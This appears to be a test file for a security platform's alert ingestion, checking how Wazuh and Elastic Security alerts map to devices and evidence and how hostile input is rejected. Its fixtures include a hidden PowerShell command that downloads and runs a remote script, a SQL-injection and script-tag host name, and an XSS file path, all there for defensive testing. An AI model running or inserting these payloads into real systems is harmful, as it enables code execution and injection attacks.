import { describe, expect, it } from 'vitest';
import { enrolTestAgent } from '../../test/agents.ts';
import { TEST_DIALECT, useTestApp } from '../../test/helper.ts';

/** A Wazuh alert with only what these tests vary. */
const wazuh = (id: string, agent: { name: string; id?: string; ip?: string }) => ({
  id, timestamp: '2026-11-30T08:00:00.000+0000', rule: { level: 10, description: 'Test rule', id: '100001', groups: ['test'] }, agent, manager: { name: 'mgr' },
});

/** An Elastic Security alert as the alerts index returns it: dotted kibana.* keys next to nested ECS objects. */
const ecsAlert = (overrides: Record<string, unknown> = {}) => ({
  '@timestamp': '2026-11-30T09:15:02.123Z',
  'kibana.alert.uuid': 'c1b2f0e4d5a6978877665544332211aa',
  'kibana.alert.rule.name': 'Suspicious PowerShell Download',
  'kibana.alert.rule.rule_id': '33f306e8-417c-411b-965c-c2812d6d3f4d',
  'kibana.alert.severity': 'high',
  'kibana.alert.risk_score': 73,
  'kibana.alert.reason': 'process event with process powershell.exe, parent process winword.exe',
  'kibana.alert.original_time': '2026-11-30T09:14:58.000Z',
  'kibana.alert.rule.threat': [{
    framework: 'MITRE ATT&CK',
    tactic: { id: 'TA0002', name: 'Execution', reference: 'https://attack.mitre.org/tactics/TA0002/' },
    technique: [{ id: 'T1059', name: 'Command and Scripting Interpreter', subtechnique: [{ id: 'T1059.001', name: 'PowerShell' }] }],
  }],
  agent: { id: '9f1c7c3e-1b2a-4d5e-8f90-123456789abc', name: 'WS-042', type: 'endpoint' },
  host: { id: 'b4c3d2e1f0', name: 'ws-042.corp.example', hostname: 'WS-042', ip: ['10.20.30.42', 'fe80::1'], os: { type: 'windows', name: 'Windows 11' } },
  event: { kind: 'signal', category: ['process'], type: ['start'], dataset: 'endpoint.events.process' },
  process: {
    name: 'powershell.exe', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', pid: 4242,
    command_line: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
    hash: { sha256: '9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3', md5: '2E5A8590CF6848968FC23DE3FA1E25F1' },
    parent: { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', pid: 3100, command_line: '"WINWORD.EXE" /n "C:\\Users\\kim\\Downloads\\invoice.docm"' },
  },
  file: { path: 'C:\\Users\\kim\\AppData\\Local\\Temp\\a.ps1', hash: { sha1: '3395856ce81f2b7382dee72602f798b642f14140' } },
  user: { name: 'kim', domain: 'CORP' },
  source: { ip: '10.20.30.42', port: 51234 },
  destination: { ip: '198.51.100.7', port: 80 },
  dns: { question: { name: 'evil.example.net' } },
  url: { full: 'http://198.51.100.7/a.ps1' },
  registry: { hive: 'HKLM', key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'Updater', data: { strings: ['C:\\Users\\kim\\AppData\\Local\\Temp\\a.ps1'] } },
  ...overrides,
});

describe(`alerts from other engines find their device (${TEST_DIALECT})`, () => {
  const ctx = useTestApp();
  const post = (path: string, body: unknown) => ctx().request(ctx().users.security_operator, 'POST', path, body);
  const count = async (table: 'alerts' | 'devices' | 'device_source_ids' | 'device_addresses') =>
    Number((await ctx().store.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  it("resolves by the engine's agent id first, then host name, then address; a renamed host keeps its device", async () => {
    const alpha = await ctx().createDevice({ name: 'alpha' });
    const bravo = await ctx().createDevice({ name: 'bravo' });
    const charlie = await ctx().createDevice({ name: 'Charlie' });

    // By name (any case); the engine's id and the address are learnt for next time.
    const first = (await post('/api/alerts/wazuh', wazuh('1', { id: '001', name: 'ALPHA', ip: '10.1.1.1' }))).json();
    expect(first.device).toEqual({ id: alpha, name: 'alpha', managed: false, created: false, matchedBy: 'host_name' });
    // The agent id beats a name that belongs to another device: the host was renamed.
    const renamed = (await post('/api/alerts/wazuh', wazuh('2', { id: '001', name: 'bravo', ip: '10.1.1.1' }))).json();
    expect(renamed.device).toMatchObject({ id: alpha, matchedBy: 'source_agent_id' });
    // The same agent id under another manager is another agent.
    expect((await post('/api/alerts/wazuh', { ...wazuh('3', { id: '001', name: 'bravo' }), manager: { name: 'other-mgr' } })).json().device)
      .toMatchObject({ id: bravo, matchedBy: 'host_name' });
    // Address last: an unknown name with a known address.
    await post('/api/alerts/wazuh', wazuh('4', { id: '007', name: 'charlie', ip: '10.9.9.9' }));
    expect((await post('/api/alerts/wazuh', wazuh('5', { name: 'dhcp-7f2a', ip: '10.9.9.9' }))).json().device).toMatchObject({ id: charlie, matchedBy: 'address' });
    // A name beats an address.
    expect((await post('/api/alerts/wazuh', wazuh('6', { name: 'bravo', ip: '10.9.9.9' }))).json().device).toMatchObject({ id: bravo, matchedBy: 'host_name' });
    // An FQDN finds the device named by its short name.
    expect((await post('/api/alerts/ecs', { '@timestamp': '2026-11-30T10:00:00Z', host: { name: 'Charlie.corp.example' } })).json().device)
      .toMatchObject({ id: charlie, matchedBy: 'host_name' });
    const device = (await ctx().request(ctx().users.security_reader, 'GET', `/api/devices/${charlie}`)).json();
    expect(device).toMatchObject({ discoveredFrom: null, addresses: ['10.9.9.9'] });
  });

  it('keeps an alert for an unknown host on one new unmanaged device, however many arrive at once', async () => {
    const before = await count('devices');
    const responses = await Promise.all(Array.from({ length: 10 }, (_, i) => post('/api/alerts/wazuh', wazuh(`burst-${i}`, { id: '042', name: 'ghost-host', ip: '192.0.2.42' }))));
    expect(responses.map((r) => r.statusCode)).toEqual(Array(10).fill(201));
    const devices = new Set(responses.map((r) => r.json().device.id));
    expect(devices.size).toBe(1);
    expect(responses.filter((r) => r.json().device.created)).toHaveLength(1);
    expect(await count('devices')).toBe(before + 1);
    const [id] = [...devices];
    const device = (await ctx().request(ctx().users.security_reader, 'GET', `/api/devices/${id}`)).json();
    expect(device).toMatchObject({ name: 'ghost-host', health: 'unmanaged', agent: null, discoveredFrom: 'wazuh', addresses: ['192.0.2.42'] });
    const alerts = (await ctx().request(ctx().users.security_reader, 'GET', `/api/alerts?deviceId=${id}`)).json();
    expect(alerts.items).toHaveLength(10);
    const audit = await ctx().store.db.selectFrom('audit_log').select('kind').where('target_id', '=', id!).execute();
    expect(audit.map((a) => a.kind)).toEqual(['device.discover']);
  });

  it('a host first known from alerts that enrols a Quell agent under its name (any case) is that same device, managed from then on, with its alerts', async () => {
    const first = (await post('/api/alerts/wazuh', wazuh('late-1', { id: '077', name: 'late-host' }))).json();
    expect(first.device).toMatchObject({ managed: false, created: true });
    const agent = await enrolTestAgent(ctx(), 'LATE-host');
    expect(agent.deviceId).toBe(first.device.id);
    const device = (await ctx().request(ctx().users.security_reader, 'GET', `/api/devices/${agent.deviceId}`)).json();
    expect(device).toMatchObject({ name: 'late-host', discoveredFrom: 'wazuh' });
    expect(device.health).not.toBe('unmanaged');
    const second = (await post('/api/alerts/wazuh', wazuh('late-2', { id: '077', name: 'late-host' }))).json();
    expect(second.device).toMatchObject({ id: agent.deviceId, name: 'late-host', managed: true, created: false });
    const third = (await post('/api/alerts/wazuh', wazuh('late-3', { id: '077', name: 'renamed-later' }))).json();
    expect(third.device).toMatchObject({ id: agent.deviceId, matchedBy: 'source_agent_id' });
    expect((await ctx().request(ctx().users.security_reader, 'GET', `/api/alerts?deviceId=${agent.deviceId}`)).json().items).toHaveLength(3);
    const enrolled = await ctx().store.db.selectFrom('audit_log').select('after_json').where('kind', '=', 'agent.enrol').where('target_id', '=', agent.deviceId).executeTakeFirstOrThrow();
    expect(JSON.parse(enrolled.after_json!)).toMatchObject({ tookOverDiscoveredDevice: true });
    // A second agent with that name is a device of its own: the first one holds the device.
    expect((await enrolTestAgent(ctx(), 'late-host')).deviceId).not.toBe(agent.deviceId);

    // Two agents of one name enrolling at once: one takes the device over, the other gets its own, and neither fails.
    const raced = (await post('/api/alerts/wazuh', wazuh('race-1', { id: '078', name: 'race-host' }))).json();
    const both = await Promise.all([enrolTestAgent(ctx(), 'race-host'), enrolTestAgent(ctx(), 'race-host')]);
    expect(both.map((a) => a.deviceId === raced.device.id).sort()).toEqual([false, true]);
  });

  it('maps Wazuh rootcheck, audit, registry integrity and sshd alerts, keeping location and previous_output', async () => {
    const base = { timestamp: '2026-11-30T08:00:00.000+0000', manager: { name: 'mgr' }, agent: { id: '011', name: 'web-11', ip: '10.0.0.11' } };
    const rootcheck = (await post('/api/alerts/wazuh', {
      ...base, id: 'rc-1', location: 'rootcheck', full_log: "File '/dev/.hidden' present on /dev. Possible hidden file.",
      rule: { level: 7, id: '510', description: 'Host-based anomaly detection event (rootcheck).', groups: ['ossec', 'rootcheck'] },
      data: { title: 'File present on /dev.', file: '/dev/.hidden' },
    })).json();
    expect(rootcheck).toMatchObject({ ruleId: '510', category: 'rootcheck', evidence: [{ kind: 'file', path: '/dev/.hidden' }], origin: { location: 'rootcheck', agentId: '011', agentIp: '10.0.0.11' } });

    const audit = (await post('/api/alerts/wazuh', {
      ...base, id: 'au-1', location: '/var/log/audit/audit.log',
      rule: { level: 3, id: '80790', description: 'Audit: Created: /home/malware.py', groups: ['audit', 'audit_watch_write', 'audit_watch_create'] },
      data: { audit: { type: 'SYSCALL', pid: '60761', command: 'touch', exe: '/usr/bin/touch', key: 'audit-wazuh-w', execve: { a0: 'touch', a1: '/home/malware.py' }, file: { name: '/home/malware.py' } } },
    })).json();
    expect(audit.evidence).toEqual([
      { kind: 'process', name: 'touch', path: '/usr/bin/touch', pid: 60761, commandLine: 'touch /home/malware.py' },
      { kind: 'file', path: '/home/malware.py' },
    ]);

    const registry = (await post('/api/alerts/wazuh', {
      ...base, id: 'rg-1', location: 'syscheck',
      rule: { level: 5, id: '594', description: 'Registry Key Integrity Checksum Changed', groups: ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_registry'],
        mitre: { id: ['T1112'], tactic: ['Defense Evasion'] } },
      syscheck: { path: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'DemoValue', arch: '[x64]', event: 'modified',
        sha256_after: 'a'.repeat(64) },
    })).json();
    expect(registry).toMatchObject({ mitreTechniques: ['T1112'], mitreTactics: ['Defense Evasion'] });
    expect(registry.evidence).toEqual([{ kind: 'registry_key', key: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'DemoValue', change: 'modified' }]);

    const sshd = (await post('/api/alerts/wazuh', {
      ...base, id: 'ss-1', location: '/var/log/auth.log',
      previous_output: 'Nov 30 07:59:58 web-11 sshd[1201]: Failed password for root from 203.0.113.9 port 40022 ssh2',
      rule: { level: 10, id: '5712', description: 'sshd: brute force trying to get access to the system. Non existent user.', groups: ['syslog', 'sshd', 'authentication_failures'],
        mitre: { id: ['T1110'], tactic: ['Credential Access'] } },
      data: { srcip: '203.0.113.9', srcport: '40022', srcuser: 'root' },
    })).json();
    expect(sshd).toMatchObject({
      category: 'sshd', mitreTechniques: ['T1110'],
      origin: { location: '/var/log/auth.log', previousOutput: 'Nov 30 07:59:58 web-11 sshd[1201]: Failed password for root from 203.0.113.9 port 40022 ssh2' },
      evidence: [{ kind: 'ip', address: '203.0.113.9', role: 'source', port: 40022 }, { kind: 'user', name: 'root' }],
    });
    // One device for all four, by name first, then by the Wazuh agent id.
    expect(new Set([rootcheck, audit, registry, sshd].map((a) => a.device.id)).size).toBe(1);
  });

  it('maps an Elastic Security alert: rule, MITRE, host, process with parent, file, user, addresses, DNS, URL, registry (201, then 200 on redelivery)', async () => {
    const response = await post('/api/alerts/ecs', ecsAlert());
    expect(response.statusCode, response.body).toBe(201);
    const alert = response.json();
    expect(alert).toMatchObject({
      title: 'Suspicious PowerShell Download', severity: 'high', detectionSource: 'elastic', category: 'process',
      externalId: 'c1b2f0e4d5a6978877665544332211aa', ruleId: '33f306e8-417c-411b-965c-c2812d6d3f4d', occurredAt: '2026-11-30T09:14:58.000Z',
      mitreTechniques: ['T1059', 'T1059.001'], mitreTactics: ['Execution'],
      origin: { agentId: '9f1c7c3e-1b2a-4d5e-8f90-123456789abc', agentName: 'WS-042', agentIp: '10.20.30.42', location: 'endpoint.events.process', previousOutput: null },
      device: { name: 'ws-042.corp.example', managed: false, created: true, matchedBy: 'created' },
    });
    expect(alert.evidence).toEqual(expect.arrayContaining([
      {
        kind: 'process', name: 'powershell.exe', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', pid: 4242,
        commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
        sha256: '9785001b0dcf755eddb8af294a373c0b87b2498660f724e76c4d53f9c217c7a3', md5: '2e5a8590cf6848968fc23de3fa1e25f1', user: 'CORP\\kim',
        parent: { name: 'WINWORD.EXE', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', pid: 3100, commandLine: '"WINWORD.EXE" /n "C:\\Users\\kim\\Downloads\\invoice.docm"' },
      },
      { kind: 'file', path: 'C:\\Users\\kim\\AppData\\Local\\Temp\\a.ps1', sha1: '3395856ce81f2b7382dee72602f798b642f14140' },
      { kind: 'user', name: 'kim', domain: 'CORP' },
      { kind: 'ip', address: '10.20.30.42', role: 'source', port: 51234 },
      { kind: 'ip', address: '198.51.100.7', role: 'destination', port: 80 },
      { kind: 'url', url: 'evil.example.net' },
      { kind: 'url', url: 'http://198.51.100.7/a.ps1' },
      { kind: 'registry_key', key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'Updater', data: 'C:\\Users\\kim\\AppData\\Local\\Temp\\a.ps1' },
    ]));
    const again = await post('/api/alerts/ecs', ecsAlert());
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ id: alert.id, device: { id: alert.device.id, created: false, matchedBy: 'already_stored' } });
    // The same Elastic agent under a new host name is still that device.
    const renamed = await post('/api/alerts/ecs', ecsAlert({ 'kibana.alert.uuid': 'second', host: { name: 'ws-042-renamed' } }));
    expect(renamed.json().device).toMatchObject({ id: alert.device.id, matchedBy: 'source_agent_id' });
  });

  it('maps an ECS event with the user a process ran as: sudo names the user who asked and the one whose rights it took (201)', async () => {
    const response = await post('/api/alerts/ecs', {
      '@timestamp': '2026-11-30T10:05:00Z', 'event.kind': 'event', 'event.dataset': 'system.auth', 'host.hostname': 'build-07',
      'process.name': 'sudo', 'process.pid': 1582, 'process.command_line': 'sudo emacs /etc/ssh/sshd_config',
      'user.name': 'dev', 'user.effective.name': 'root',
    });
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json().device).toMatchObject({ name: 'build-07', created: true });
    expect(response.json().evidence).toEqual([
      { kind: 'process', name: 'sudo', pid: 1582, commandLine: 'sudo emacs /etc/ssh/sshd_config', user: 'dev' },
      { kind: 'user', name: 'dev' },
      { kind: 'user', name: 'root' },
    ]);
  });

  it('refuses malformed, oversized and hostile ECS documents with a 4xx and writes nothing', async () => {
    const before = await Promise.all([count('alerts'), count('devices'), count('device_source_ids'), count('device_addresses')]);
    let deep: Record<string, unknown> = { leaf: 'x' };
    for (let i = 0; i < 40; i++) deep = { d: deep };
    const cases: Array<[unknown, number, string]> = [
      [{ host: { name: 'no-time' } }, 400, 'validation_failed'],
      [{ '@timestamp': 'yesterday', host: { name: 'bad-time' } }, 400, 'validation_failed'],
      [{ '@timestamp': '2026-11-30T10:00:00Z', host: { name: 'too-deep' }, deep }, 400, 'validation_failed'],
      [{ '@timestamp': '2026-11-30T10:00:00Z', host: { name: 'too-wide' }, tags: Array(1001).fill('t') }, 400, 'validation_failed'],
      [{ '@timestamp': '2026-11-30T10:00:00Z', host: { name: 'too-long' }, message: 'x'.repeat(70_000) }, 400, 'validation_failed'],
      [{ '@timestamp': '2026-11-30T10:00:00Z', host: { name: 'too-big' }, message: Array.from({ length: 6 }, () => 'y'.repeat(60_000)) }, 413, 'payload_too_large'],
      [[ecsAlert()], 400, 'validation_failed'],
    ];
    for (const [body, status, code] of cases) {
      const response = await post('/api/alerts/ecs', body);
      expect(response.statusCode, JSON.stringify(body).slice(0, 120)).toBe(status);
      expect(response.headers['content-type']).toContain('application/problem+json');
      expect(response.json().code).toBe(code);
    }
    // Nesting far past the limit, as deep as the body limit allows: a clear 400, not a crash.
    const abyss = await ctx().app.inject({
      method: 'POST', url: '/api/alerts/ecs', headers: { ...ctx().as(ctx().users.security_operator), 'content-type': 'application/json' },
      payload: `{"@timestamp":"2026-11-30T10:00:00Z","host":{"name":"abyss"},"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
    });
    expect(abyss.statusCode).toBe(400);
    expect(abyss.json().code).toBe('validation_failed');
    const wazuhAbyss = await ctx().app.inject({
      method: 'POST', url: '/api/alerts/wazuh', headers: { ...ctx().as(ctx().users.security_operator), 'content-type': 'application/json' },
      payload: JSON.stringify(wazuh('abyss', { name: 'abyss' })).replace(/}$/, `,"data":{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`),
    });
    expect(wazuhAbyss.statusCode).toBe(400);
    const notJson = await ctx().app.inject({ method: 'POST', url: '/api/alerts/ecs', headers: { ...ctx().as(ctx().users.security_operator), 'content-type': 'application/json' }, payload: '{"@timestamp": ' });
    expect(notJson.statusCode).toBe(400);
    expect(notJson.json().code).toBe('malformed_json');
    expect(await Promise.all([count('alerts'), count('devices'), count('device_source_ids'), count('device_addresses')])).toEqual(before);
  });

  it('stores names and paths from alerts as data, never as markup or queries', async () => {
    const name = "x'); DROP TABLE devices;--<script>alert(1)</script>";
    const response = await post('/api/alerts/ecs', { '@timestamp': '2026-11-30T10:00:00Z', host: { name }, file: { path: '/tmp/<img src=x onerror=alert(1)>' } });
    expect(response.statusCode).toBe(201);
    expect(response.json().device).toMatchObject({ name, created: true });
    expect(response.json().evidence).toEqual([{ kind: 'file', path: '/tmp/<img src=x onerror=alert(1)>' }]);
    expect(await count('devices')).toBeGreaterThan(0);
  });

  it('lets only senders with alerts:create make alerts or devices', async () => {
    const before = await count('devices');
    const response = await ctx().request(ctx().users.security_reader, 'POST', '/api/alerts/ecs', ecsAlert());
    expect(response.statusCode).toBe(403);
    expect(await count('devices')).toBe(before);
  });
});
